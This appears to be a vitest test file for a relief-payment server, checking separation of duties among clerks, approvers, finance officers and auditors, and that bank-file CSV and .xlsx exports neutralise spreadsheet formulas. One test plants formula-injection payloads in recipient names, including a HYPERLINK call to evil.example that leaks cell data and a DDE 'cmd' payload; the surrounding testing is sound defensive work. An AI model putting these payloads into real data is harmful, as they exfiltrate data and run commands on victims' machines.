import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDialects } from '../../test-support/db.js';
import { type Client, TestEnv } from '../../test-support/env.js';
import { moneyCounty, moneyDesk, waitComputed } from '../../test-support/money.js';

/**
 * Separation of duties for money, on the server: whoever created, computed or submitted an item does not decide
 * it; whoever proposed, submitted or approved it does not pay it; read-only roles write nothing; no GET moves a
 * batch. And the bank file cannot carry a formula into the spreadsheet that opens it.
 */
describe.each(testDialects)('money duties on %s', (dialect) => {
  let env: TestEnv;
  let m: Awaited<ReturnType<typeof moneyCounty>>;
  let clerk: Client;
  let approver: Client;
  let finance: Client;
  let clerkApprover: Client;
  let approverFinance: Client;
  let clerkFinance: Client;
  let auditor: Client;
  let fundId: number;
  let medicalFund: number;

  const computed = async (c: Client, period: string) => {
    const r = await c.post('/api/v1/batches', {
      orgId: m.county.id,
      programme: 'living',
      period,
      method: 'bank',
      fundId,
    });
    if (r.status !== 202) throw new Error(r.text);
    await waitComputed(c, r.body.id);
    return r.body.id as number;
  };
  const approved = async (period: string, maker = clerk, checker = approver) => {
    const id = await computed(maker, period);
    expect((await maker.post(`/api/v1/batches/${id}/submit`, {})).status).toBe(200);
    const d = await checker.post(`/api/v1/batches/${id}/decision`, { decision: 'approve' });
    expect(d.status, d.text).toBe(200);
    return id;
  };

  beforeAll(async () => {
    env = await TestEnv.create(dialect);
    m = await moneyCounty(env, 4);
    ({ clerk, approver, finance, fundId } = await moneyDesk(env, m.county.id, {
      name: '生活救助',
      source: 'government',
      amountFen: 100_000_000,
      memo: '财政拨款',
    }));
    await env.user('clerk-approver', m.county.id, ['intake_clerk', 'approver']);
    await env.user('approver-fin', m.county.id, ['approver', 'finance']);
    await env.user('clerk-fin', m.county.id, ['intake_clerk', 'finance']);
    await env.user('auditor', m.county.id, ['auditor']);
    clerkApprover = await env.login('clerk-approver');
    approverFinance = await env.login('approver-fin');
    clerkFinance = await env.login('clerk-fin');
    auditor = await env.login('auditor');
    const r = await m.admin.post('/api/v1/programmes/rules', {
      orgId: m.county.id,
      templateId: 'seed004.p1.medical',
      effectiveFrom: '2020-01-01',
      params: {},
    });
    expect(r.status, r.text).toBe(201);
    const f = await finance.post('/api/v1/funds', {
      orgId: m.county.id,
      name: '医疗救助',
      source: 'donation',
      restrictedProgramme: 'medical',
      year: 2027,
    });
    medicalFund = f.body.id;
    await finance.post(`/api/v1/funds/${medicalFund}/receipts`, { amountFen: 10_000_000, memo: '捐赠' });
  });
  afterAll(() => env.close());

  it('whoever submits a batch someone else computed cannot approve it', async () => {
    const id = await computed(clerk, '2027Q1');
    expect((await clerkApprover.post(`/api/v1/batches/${id}/submit`, {})).status).toBe(200);
    const self = await clerkApprover.post(`/api/v1/batches/${id}/decision`, { decision: 'approve' });
    expect(self.status).toBe(403);
    expect(self.body.error.code).toBe('MAKER_CHECKER');
    expect((await clerkApprover.get('/api/v1/approvals/queue')).status).toBe(200);
    expect((await approver.post(`/api/v1/batches/${id}/decision`, { decision: 'approve' })).status).toBe(200);
  });

  it('whoever approved or proposed a batch cannot pay it; an independent finance officer can', async () => {
    const byApprover = await approved('2027Q2', clerk, approverFinance);
    const own = await approverFinance.post(`/api/v1/batches/${byApprover}/pay`, {});
    expect(own.status).toBe(403);
    expect(own.body.error.code).toBe('PAYER_NOT_INDEPENDENT');
    const grant = (await finance.get(`/api/v1/batches/${byApprover}/grants`)).body.items[0];
    const mark = await approverFinance.post(`/api/v1/grants/${grant.id}/mark`, { status: 'paid' });
    expect(mark.body.error.code).toBe('PAYER_NOT_INDEPENDENT');
    const reconcile = await approverFinance.post(`/api/v1/batches/${byApprover}/reconcile`, {
      csv: `流水号,结果,原因\n${grant.id},成功,`,
    });
    expect(reconcile.body.error.code).toBe('PAYER_NOT_INDEPENDENT');
    expect((await finance.post(`/api/v1/batches/${byApprover}/pay`, {})).status).toBe(200);

    const byProposer = await approved('2027Q3', clerkFinance, approver);
    const proposer = await clerkFinance.post(`/api/v1/batches/${byProposer}/pay`, {});
    expect(proposer.status).toBe(403);
    expect(proposer.body.error.code).toBe('PAYER_NOT_INDEPENDENT');
    expect((await finance.post(`/api/v1/batches/${byProposer}/pay`, {})).status).toBe(200);
  });

  it('whoever approved an application cannot pay it', async () => {
    const a = await clerk.post('/api/v1/applications', {
      householdId: m.ids[0],
      templateId: 'seed004.p1.medical',
      inputs: { compliantSelfPaidFen: 50_000 },
      period: '2027-sod',
      fundId: medicalFund,
    });
    expect(a.status, a.text).toBe(201);
    const ok = await approverFinance.post(`/api/v1/applications/${a.body.id}/decision`, { decision: 'approve' });
    expect(ok.status, ok.text).toBe(200);
    const own = await approverFinance.post(`/api/v1/grants/${ok.body.grant.id}/mark`, { status: 'paid' });
    expect(own.status).toBe(403);
    expect(own.body.error.code).toBe('PAYER_NOT_INDEPENDENT');
    expect((await finance.post(`/api/v1/grants/${ok.body.grant.id}/mark`, { status: 'paid' })).status).toBe(200);
  });

  it('the organiser of a campaign neither decides nor pays its entries', async () => {
    await env.user('organiser', m.county.id, ['admin', 'approver', 'finance']);
    const organiser = await env.login('organiser');
    const r = await m.admin.post('/api/v1/programmes/rules', {
      orgId: m.county.id,
      templateId: 'seed004.p2.holiday',
      effectiveFrom: '2020-01-01',
      params: { amounts: { moderateFen: 200_000 } },
    });
    expect(r.status, r.text).toBe(201);
    const c = await organiser.post('/api/v1/campaigns', {
      orgId: m.county.id,
      programme: 'holiday',
      templateId: 'seed004.p2.holiday',
      title: '春节送温暖',
      startsOn: env.ctx.clock.today(),
      endsOn: '2099-12-31',
    });
    expect(c.status, c.text).toBe(201);
    const e = await clerk.post('/api/v1/applications', {
      householdId: m.ids[2],
      campaignId: c.body.id,
      inputs: { hardship: 'very', veteran: true },
    });
    expect(e.status, e.text).toBe(201);
    const bulk = await organiser.post(`/api/v1/campaigns/${c.body.id}/decision`, { decision: 'approve' });
    expect(bulk.body.error.code).toBe('MAKER_CHECKER');
    const one = await organiser.post(`/api/v1/applications/${e.body.id}/decision`, { decision: 'approve' });
    expect(one.body.error.code).toBe('MAKER_CHECKER');
    const ok = await approver.post(`/api/v1/campaigns/${c.body.id}/decision`, { decision: 'approve' });
    expect(ok.body.decided).toBe(1);
    const grant = (await clerk.get(`/api/v1/applications/${e.body.id}`)).body.grant;
    const holidayFund = await finance.post('/api/v1/funds', {
      orgId: m.county.id,
      name: '送温暖',
      source: 'union',
      year: 2027,
    });
    await finance.post(`/api/v1/funds/${holidayFund.body.id}/receipts`, { amountFen: 1_000_000, memo: '经费' });
    const pay = { status: 'paid', fundId: holidayFund.body.id };
    expect((await organiser.post(`/api/v1/grants/${grant.id}/mark`, pay)).body.error.code).toBe(
      'PAYER_NOT_INDEPENDENT',
    );
    const paid = await finance.post(`/api/v1/grants/${grant.id}/mark`, pay);
    expect(paid.status, paid.text).toBe(200);
  });

  it('the read-only auditor cannot comment; every comment is audited', async () => {
    const id = await computed(clerk, '2027Q4');
    const denied = await auditor.post(`/api/v1/batches/${id}/comments`, { comment: '审计意见' });
    expect(denied.status).toBe(403);
    const ok = await approver.post(`/api/v1/batches/${id}/comments`, { comment: '请核对第3户' });
    expect(ok.status, ok.text).toBe(200);
    const comments = ok.body.approvals.filter((a: { decision: string }) => a.decision === 'comment');
    expect(comments.map((c: { comment: string }) => c.comment)).toEqual(['请核对第3户']);
    const audit = await env.ctx.db
      .selectFrom('audit_log')
      .select(['action', 'after_json'])
      .where('action', '=', 'batch.comment')
      .where('entity_id', '=', String(id))
      .execute();
    expect(audit).toHaveLength(1);
    expect(audit[0]?.after_json).toContain('请核对第3户');
  });

  it('downloading the bank file changes nothing; "sent to bank" is its own step, once', async () => {
    const id = await approved('2028Q1');
    const csv = await finance.get(`/api/v1/batches/${id}/bank-file.csv`);
    expect(csv.status).toBe(200);
    expect((await finance.get(`/api/v1/batches/${id}`)).body.status).toBe('approved');
    expect((await auditor.post(`/api/v1/batches/${id}/sent-to-bank`, {})).status).toBe(403);
    const sent = await finance.post(`/api/v1/batches/${id}/sent-to-bank`, {});
    expect(sent.status, sent.text).toBe(200);
    expect(sent.body.status).toBe('paying');
    const again = await finance.post(`/api/v1/batches/${id}/sent-to-bank`, {});
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('BATCH_BAD_STATUS');
  });

  it('the bank file neutralises formula cells (=HYPERLINK, =cmd|, @SUM, +, -, tab)', async () => {
    const id = await approved('2028Q2');
    const grants = (await finance.get(`/api/v1/batches/${id}/grants`)).body.items as { id: number }[];
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
      "=cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd|x',
      '-2+3',
    ];
    for (const [i, g] of grants.entries())
      await env.ctx.db
        .updateTable('assistance_grant')
        .set({ recipient_name: hostile[i % hostile.length] as string })
        .where('id', '=', g.id)
        .execute();
    const csv = await finance.get(`/api/v1/batches/${id}/bank-file.csv`);
    expect(csv.status).toBe(200);
    const names = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
      .slice(1)
      .map((l) => l.slice(l.indexOf(',') + 1));
    expect(names.length).toBe(grants.length);
    for (const n of names) expect(n).toMatch(/^("')|^'/);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点此"")"`);
    expect(csv.text).toContain("'@SUM(1+1)*cmd|x");
    expect(csv.text).not.toMatch(/(^|,)[=@+-]/m);
    // The payment list's .xlsx writes names as text cells, never as formulas.
    const xlsx = await env.app.inject({
      method: 'GET',
      url: `/api/v1/batches/${id}/payment-list.xlsx`,
      headers: { cookie: (finance as { cookie?: string }).cookie ?? '' },
    });
    expect(xlsx.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0]?.eachRow((row) => {
      row.eachCell((cell) => {
        cells.push(cell);
      });
    });
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.some((c) => c.value === hostile[0])).toBe(true);
  });

  it('an unknown fund, another county’s fund or an id beyond int4 answers 4xx with a code, never 500', async () => {
    const sibling = await env.org(m.province.id, '浈江区总工会', 'county', '440204');
    await env.user('sibling-fin', sibling.id, ['finance']);
    const sfin = await env.login('sibling-fin');
    const theirs = await sfin.post('/api/v1/funds', {
      orgId: sibling.id,
      name: '浈江医疗',
      source: 'union',
      restrictedProgramme: 'medical',
      year: 2027,
    });
    expect(theirs.status).toBe(201);
    const apply = (fund: number, period: string) =>
      clerk.post('/api/v1/applications', {
        // A 深度 file: the 相对 ones were paid living relief this year above, so 单一项目救助 refuses them medical relief.
        householdId: m.ids[2],
        templateId: 'seed004.p1.medical',
        inputs: { compliantSelfPaidFen: 50_000 },
        period,
        fundId: fund,
      });
    for (const [fund, period] of [
      [999_999, '2027-u1'],
      [theirs.body.id, '2027-u2'],
    ] as const) {
      const r = await apply(fund, period);
      expect(r.status, r.text).toBe(404);
      expect(r.body.error.code).toBe('FUND_NOT_FOUND');
    }
    const huge = await apply(2 ** 31, '2027-u3');
    expect(huge.status).toBe(400);
    const batch = await clerk.post('/api/v1/batches', {
      orgId: m.county.id,
      programme: 'living',
      period: '2029Q1',
      method: 'bank',
      fundId: 2 ** 31,
    });
    expect(batch.status).toBe(400);
    const unknownBatchFund = await clerk.post('/api/v1/batches', {
      orgId: m.county.id,
      programme: 'living',
      period: '2029Q1',
      method: 'bank',
      fundId: 999_999,
    });
    expect(unknownBatchFund.status).toBe(404);
    expect((await finance.post('/api/v1/funds/999999/receipts', { amountFen: 100, memo: 'x' })).status).toBe(404);
    expect((await finance.post(`/api/v1/funds/${2 ** 31}/receipts`, { amountFen: 100, memo: 'x' })).status).toBe(400);
    const ledger = await finance.get(`/api/v1/ledger/entries?orgId=${m.county.id}&fundId=${2 ** 31}`);
    expect(ledger.status).toBe(400);
    // Paying an application's grant with a fund that does not reach the paying node.
    const a = await apply(medicalFund, '2027-u4');
    expect(a.status, a.text).toBe(201);
    const ok = await approver.post(`/api/v1/applications/${a.body.id}/decision`, { decision: 'approve' });
    for (const fund of [theirs.body.id, 999_999]) {
      const pay = await finance.post(`/api/v1/grants/${ok.body.grant.id}/mark`, { status: 'paid', fundId: fund });
      expect(pay.status, pay.text).toBe(404);
      expect(pay.body.error.code).toBe('FUND_NOT_FOUND');
    }
    const pay = await finance.post(`/api/v1/grants/${ok.body.grant.id}/mark`, { status: 'paid', fundId: 2 ** 31 });
    expect(pay.status).toBe(400);
  });
});
